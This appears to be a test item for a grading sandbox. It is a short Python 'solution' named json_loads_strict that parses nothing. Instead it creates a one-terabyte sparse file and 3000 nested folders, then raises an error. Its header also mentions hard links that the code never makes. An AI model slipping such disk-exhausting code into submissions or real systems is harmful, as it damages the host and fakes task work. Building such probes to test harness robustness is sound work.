# about: a file with a hole of a terabyte, and many hard links and folders
# base: solved 01_encoding
# score: 15

# %% json_loads_strict
import os


def json_loads_strict(data):
    with open("{{MARK}}-sparse", "wb") as file:
        file.truncate(10**12)
    folder = "."
    for _ in range(3000):
        folder += "/d"
        os.mkdir(folder)
    raise RuntimeError("made")
